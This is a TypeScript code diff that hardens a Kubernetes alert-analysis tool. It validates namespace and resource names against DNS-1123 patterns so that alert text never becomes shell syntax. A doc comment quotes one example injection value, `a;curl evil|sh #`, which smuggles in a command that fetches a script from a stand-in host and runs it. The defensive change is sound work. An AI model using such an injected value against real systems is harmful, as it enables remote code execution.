@@ -1,3 +1,4 @@
+import { DNS1123_LABEL, DNS1123_SUBDOMAIN } from "../contracts/action.ts";
 import type { NormalizedAlert } from "../contracts/alert.ts";
 import type { DataImpact, Operation, Rca, RiskLevel } from "../contracts/rca.ts";
 import type { SyncRcaProvider } from "../ports/rca-provider.ts";
@@ -233,10 +234,21 @@ function unknownFamily(alert: NormalizedAlert, target: Target): Rca {
   };
 }
 
+/**
+ * Names as they may appear in a command people copy: a label value that is
+ * not a valid Kubernetes name (`a;curl evil|sh #`) is replaced by a
+ * placeholder, so alert text never becomes shell syntax.
+ */
 function targetOf(alert: NormalizedAlert): Target {
-  const ns = alert.namespace ?? "default";
-  const resource = alert.target_resource ?? alert.alert_type;
-  return { ns, resource, workload: alert.resource_type === "pod" ? workloadOfPod(resource) : resource };
+  const ns = safeName(alert.namespace ?? "default", DNS1123_LABEL, 63, "<namespace>");
+  const raw = alert.target_resource ?? alert.alert_type;
+  const resource = safeName(raw, DNS1123_SUBDOMAIN, 253, "<resource>");
+  const workload = alert.resource_type === "pod" ? safeName(workloadOfPod(raw), DNS1123_SUBDOMAIN, 253, "<deployment>") : resource;
+  return { ns, resource, workload };
+}
+
+function safeName(name: string, pattern: RegExp, max: number, placeholder: string): string {
+  return name.length <= max && pattern.test(name) ? name : placeholder;
 }
 
 /** `api-7d4b8c9f5-xk2m3` → `api`: a Deployment's pods carry a ReplicaSet hash and a pod suffix. */
